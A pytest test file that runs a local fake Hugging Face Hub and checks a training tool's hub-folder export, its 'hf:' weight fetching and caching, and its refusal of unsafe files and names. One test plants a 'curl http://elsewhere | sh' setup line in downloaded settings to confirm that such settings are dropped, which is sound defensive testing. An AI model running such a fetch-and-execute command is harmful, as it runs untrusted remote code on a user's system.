"""`export --to hub-folder` and `train --from hf:`, by a server of our own that speaks as the Hub does."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from runner_core.base.errors import BadInput
from runner_core.base.files import hash_file
from runner_core.base.hub import fetch, fetched, is_same
from runner_core.cli import main
from runner_core.cli.start_weights import _from_hub
from runner_core.plugins import discovery
from runner_core.tools.hub_folder import metadata
from safetensors.numpy import load_file, save_file

hub = pytest.importorskip("huggingface_hub", reason="huggingface_hub is not installed (the extra runner-core[hub])")
from huggingface_hub import constants  # noqa: E402 - after the line that skips

QUICK = ["--train.epochs", "1", "--train.steps-per-epoch", "1", "--train.deterministic"]


class Hub:
    """Repositories that are folders, at one commit each, and the requests that were made."""

    def __init__(self) -> None:
        self.folders: dict[str, Path] = {}
        self.asked: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.answer(self)

            do_HEAD = do_GET

            def log_message(self, *_: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.endpoint = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def commit(self, name: str) -> str:
        return hashlib.sha1(name.encode()).hexdigest()

    def answer(self, request: BaseHTTPRequestHandler) -> None:
        self.asked.append(f"{request.command} {request.path}")
        words = request.path.partition("?")[0].strip("/").split("/")
        api = words[:2] == ["api", "models"]
        name = "/".join(words[2:4] if api else words[:2])
        revision = (words[5:6] or ["main"])[0] if api else words[3]
        folder, commit = self.folders.get(name), self.commit(name)
        if folder is None or revision not in ("main", "v1", commit):
            code = "RepoNotFound" if folder is None else "RevisionNotFound"
            return self._send(request, 404, b"{}", {"X-Error-Code": code, "X-Error-Message": "not there"})
        if api:
            siblings = [
                {"rfilename": f.relative_to(folder).as_posix()} for f in sorted(folder.rglob("*")) if f.is_file()
            ]
            about = {"id": name, "sha": commit, "siblings": siblings, "private": False, "tags": [], "downloads": 0}
            return self._send(request, 200, json.dumps(about).encode(), {})
        content = (folder / "/".join(words[4:])).read_bytes()
        headers = {"ETag": f'"{hashlib.sha256(content).hexdigest()}"', "X-Repo-Commit": commit}
        return self._send(request, 200, content, headers)

    @staticmethod
    def _send(request: BaseHTTPRequestHandler, status: int, body: bytes, headers: dict[str, str]) -> None:
        request.send_response(status)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            request.send_header(name, value)
        request.end_headers()
        if request.command != "HEAD":
            request.wfile.write(body)

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def server(here: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Hub]:
    """A Hub, which huggingface_hub asks in this process instead of the real one, with an empty cache."""
    found = Hub()
    monkeypatch.setattr(constants, "ENDPOINT", found.endpoint)
    template = f"{found.endpoint}/{{repo_id}}/resolve/{{revision}}/{{filename}}"
    monkeypatch.setattr(constants, "HUGGINGFACE_CO_URL_TEMPLATE", template)  # made of ENDPOINT at the import
    monkeypatch.setattr(constants, "HF_HUB_CACHE", str(here / "hub-cache"))
    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", False)
    monkeypatch.delenv("HF_TOKEN", raising=False)
    yield found
    found.stop()


def repository(folder: Path, *others: str, **about: Any) -> Path:
    """A folder with weights, a config.json and files that nobody should ask for."""
    folder.mkdir()
    save_file({"a": np.arange(3, dtype=np.float32)}, folder / "model.safetensors")
    (folder / "config.json").write_text(json.dumps(about))
    for name in others:
        (folder / name).write_bytes(b"\x80\x04pickle")
    return folder


# ---------------------------------------------------------------- there and back


@pytest.mark.torch
def test_a_hub_folder_starts_a_training_with_the_same_weights(
    trained: Path, server: Hub, here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["toy", "export", str(trained), "--out", "folder", "--to", "hub-foldre"]) == 2
    assert "did you mean 'hub-folder'" in capsys.readouterr().err
    words = ["--to", "hub-folder", "--license", "Apache-2.0"]
    assert main(["toy", "export", str(trained), "--out", "folder", *words]) == 0
    folder = here / "folder"
    card = hub.ModelCard.load(folder / "README.md")
    assert (card.data.license, card.data.library_name) == ("apache-2.0", "runner")
    assert card.data.tags == ["runner", "toy", "pytorch"]
    results = {one.metric_type: one.metric_value for one in card.data.eval_results}
    assert results == pytest.approx(json.loads((trained / "scores.json").read_text())["means"])
    assert card.data.metrics == [*results]
    assert card.text.strip().startswith((folder / "MODEL_CARD.md").read_text().strip()[:40])

    server.folders["lab/toy"] = folder
    assert main(["toy", "train", "--from", "hf:lab/toy@v1", "--run-dir", "child", *QUICK]) == 0
    said, source = capsys.readouterr().out, f"hf:lab/toy@{server.commit('lab/toy')}"
    start = json.loads((here / "child" / "start.json").read_text())
    assert (start["source"], start["digest"]) == (source, hash_file(folder / "model.safetensors"))
    assert [start["fit"][name] for name in ("kept", "unused", "differ")] == [[], [], {}]
    assert len(start["fit"]["fitted"]) == len(load_file(folder / "model.safetensors"))
    assert f"started from {source}" in said
    assert json.loads((here / "child" / "summary.json").read_text())["start"]["from"] == source
    wanted = {path.rpartition("/")[2] for path in server.asked if "/resolve/" in path}
    assert wanted == {"model.safetensors", "config.json"}

    # the commit is in the cache now: nothing is asked
    server.asked.clear()
    assert main(["toy", "train", "--from", source, "--run-dir", "again", *QUICK]) == 0
    assert main(["toy", "train", "--resume", "again", "--from", "hf:lab/toy"]) == 0
    assert server.asked == []
    assert main(["toy", "train", "--resume", "again", "--from", "hf:lab/other"]) == 2
    assert "leave one of them out" in capsys.readouterr().err


@pytest.mark.torch
def test_settings_come_along_and_a_strangers_log_does_not(trained: Path, server: Hub, here: Path) -> None:
    assert main(["toy", "export", str(trained), "--out", "folder", "--to", "hub-folder"]) == 0
    file = here / "folder" / "config.json"
    about = json.loads(file.read_text())
    assert not {"log", "cache", "remote", "predict"} & about["runner"]["settings"].keys()
    about["runner"]["settings"]["train"]["learning_rate"] = 0.0123
    about["runner"]["settings"]["log"] = {"mlflow": "http://elsewhere"}
    file.write_text(json.dumps(about))
    server.folders["lab/toy"] = here / "folder"
    assert main(["toy", "train", "--from", "hf:lab/toy", "--run-dir", "child", *QUICK]) == 0
    settings = (here / "child" / "config.yaml").read_text()
    assert "learning_rate: 0.0123" in settings
    assert "elsewhere" not in settings


def test_a_strangers_settings_tell_no_extension_what_to_do(
    server: Hub, here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Those of runner-slurm hold lines of shell, which `submit --from hf:` would run."""
    settings = {"train": {"epochs": 3}, "cluster_jobs": {"setup": ["curl http://elsewhere | sh"]}}
    server.folders["lab/toy"] = repository(here / "net", runner={"project": "toy", "settings": settings})
    installed = discovery.extensions()
    monkeypatch.setattr(discovery, "extensions", lambda: {**installed, "cluster-jobs": None})
    found = _from_hub("toy", "hf:lab/toy").settings
    assert found is not None
    assert found.sections == {"train": {"epochs": 3}}


def test_weights_without_settings_are_said(server: Hub, here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Another program may have put the weights alone into the cache."""
    server.folders["lab/toy"] = repository(
        here / "net", runner={"project": "toy", "settings": {"train": {"epochs": 3}}}
    )
    commit = server.commit("lab/toy")
    file = hub.hf_hub_download("lab/toy", "model.safetensors", revision=commit)
    found = _from_hub("toy", f"hf:lab/toy@{commit}")
    assert (str(found.named), found.settings) == (file, None)
    said = capsys.readouterr().out
    assert len(said.splitlines()) == 1
    assert f"NOTE: hf:lab/toy@{commit}: no config.json came with the weights" in said
    assert _from_hub("toy", "hf:lab/toy").settings is not None  # asked for by name, the Hub gives both
    assert not capsys.readouterr().out


# ---------------------------------------------------------------- what is fetched, and what is refused


def test_only_safe_files_are_fetched_and_a_commit_is_kept(server: Hub, here: Path) -> None:
    server.folders["lab/net"] = repository(here / "net", "pytorch_model.bin", "model.pkl", "modeling.py", width=3)
    found = fetch("hf:lab/net")
    assert found.source == f"hf:lab/net@{server.commit('lab/net')}"
    np.testing.assert_array_equal(load_file(found.file)["a"], [0, 1, 2])
    assert found.about == {"width": 3}
    files = {path.rpartition("/")[2] for path in server.asked if "/resolve/" in path}
    assert files == {"model.safetensors", "config.json"}
    server.asked.clear()
    assert fetch(found.source) == fetched(found.source) == found
    assert server.asked == []
    server.folders["lab/named"] = named = repository(here / "named")
    (named / "model.safetensors").rename(named / "net.safetensors")
    found = fetch("hf:lab/named")
    server.asked.clear()
    assert fetched(found.source).file == found.file  # as a run that is resumed asks
    assert server.asked == []
    with pytest.raises(BadInput, match="is not in the cache"):
        fetched(f"hf:lab/named@{40 * 'a'}")


def test_a_program_of_its_own_asks_for_nothing_else(server: Hub, here: Path) -> None:
    """As a user has it: the endpoint from the environment, and no report to anybody about who asks."""
    server.folders["lab/net"] = repository(here / "net")
    code = "from runner_core.base.hub import fetch; print(fetch('hf:lab/net@main').source)"
    env = {**os.environ, "HF_ENDPOINT": server.endpoint, "HF_HOME": str(here / "home")}
    said = subprocess.check_output([sys.executable, "-c", code], text=True, env=env)
    commit = server.commit("lab/net")
    assert said == f"hf:lab/net@{commit}\n"
    files = [f"/lab/net/resolve/{commit}/{name}" for name in ("config.json", "model.safetensors")]
    resolved = [f"{method} {file}" for file in files for method in ("HEAD", "GET")]
    assert server.asked == ["GET /api/models/lab/net/revision/main", *resolved]


@pytest.mark.parametrize(
    ("named", "says"),
    [
        ("hf:net", "write hf:OWNER/NAME"),
        ("hf:lab/net@", "write hf:OWNER/NAME"),
        ("hf:lab/../net", "write hf:OWNER/NAME"),
        ("hf:../net", "cannot be fetched from http://127.0.0.1"),
        (f"hf:../net@{40 * 'a'}", "cannot be a repository's name"),
        ("hf:lab/nothing", "cannot be fetched from http://127.0.0.1"),
        ("hf:lab/net@v2", "cannot be fetched from http://127.0.0.1"),
        ("hf:lab/pickles", "it has no .safetensors"),
        ("hf:lab/parts", "it has 2 files of weights"),
        ("hf:lab/other", "weights of project 'other', not of 'toy'"),
        ("hf:lab/damaged", "its config.json is damaged"),
    ],
)
def test_what_cannot_be_used_is_refused_and_nothing_is_written(
    named: str, says: str, server: Hub, here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    server.folders["lab/net"] = repository(here / "net")
    server.folders["lab/other"] = repository(here / "other", runner={"project": "other"})
    server.folders["lab/pickles"] = pickles = repository(here / "pickles", "pytorch_model.bin")
    (pickles / "model.safetensors").unlink()
    server.folders["lab/parts"] = parts = repository(here / "parts")
    for number in "12":
        shutil.copy(parts / "model.safetensors", parts / f"m{number}.safetensors")
    (parts / "model.safetensors").unlink()
    server.folders["lab/damaged"] = damaged = repository(here / "damaged")
    (damaged / "config.json").write_text("{")
    assert main(["toy", "train", "--from", named, "--run-dir", "child"]) == 2
    assert says in capsys.readouterr().err
    assert not (here / "child").exists()


def test_without_a_connection_without_the_package(
    server: Hub, here: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", True)
    assert main(["toy", "train", "--from", "hf:lab/net"]) == 2
    assert "name a commit that is in the cache" in capsys.readouterr().err
    assert server.asked == []
    monkeypatch.setitem(sys.modules, "huggingface_hub", None)
    assert main(["toy", "train", "--from", "hf:lab/net"]) == 2
    assert "uv pip install huggingface-hub" in capsys.readouterr().err


def test_nothing_is_asked_where_nobody_wrote_hf(here: Path) -> None:
    code = "import sys; from runner_core import main; main(['toy', 'config']); print('huggingface_hub' in sys.modules)"
    said = subprocess.check_output([sys.executable, "-c", code], text=True)
    assert said.endswith("False\n")


def test_which_weights_are_meant() -> None:
    commit = 40 * "a"
    assert is_same(f"hf:a/b@{commit}", f"hf:a/b@{commit}")
    assert not is_same("hf:a/b@main", f"hf:a/b@{commit}")


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("", {"license": "unknown"}),
        ("CC-BY-4.0", {"license": "cc-by-4.0"}),
        ("LicenseRef-Lab", {"license": "other", "license_name": "licenseref-lab"}),
    ],
)
def test_license(given: str, expected: dict[str, str]) -> None:
    class Project:
        name, framework = "cells", "keras"

        def combining(self) -> None:
            return None

    found = metadata(Project(), {"data": {"source": "/secret place"}}, given)  # type: ignore[arg-type]
    assert {name: value for name, value in found.items() if name.startswith("license")} == expected
    assert not {"pipeline_tag", "datasets", "model-index"} & found.keys()
